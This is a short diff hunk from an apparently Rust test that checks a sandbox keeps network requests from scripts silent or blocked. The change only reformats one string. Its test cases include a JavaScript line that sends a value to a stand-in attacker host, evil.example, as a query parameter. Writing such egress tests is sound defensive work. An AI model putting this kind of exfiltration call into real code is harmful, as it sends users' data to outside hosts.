@@ -150,7 +150,7 @@ fn what_goes_over_the_network_is_silent() {
     }
     for (what, code) in [
         ("raw URL", format!("return ctx.http.get(`{url}/?q=${{s}}`).status;")),
-        ("refused URL", format!("return ctx.http.get(`http://127.0.0.1:1/?q=${{s}}`);")),
+        ("refused URL", "return ctx.http.get(`http://127.0.0.1:1/?q=${s}`);".to_owned()),
         (
             "blocked host",
             "return ctx.http.get(`https://evil.example/?q=${encodeURIComponent(s)}`);".to_owned(),
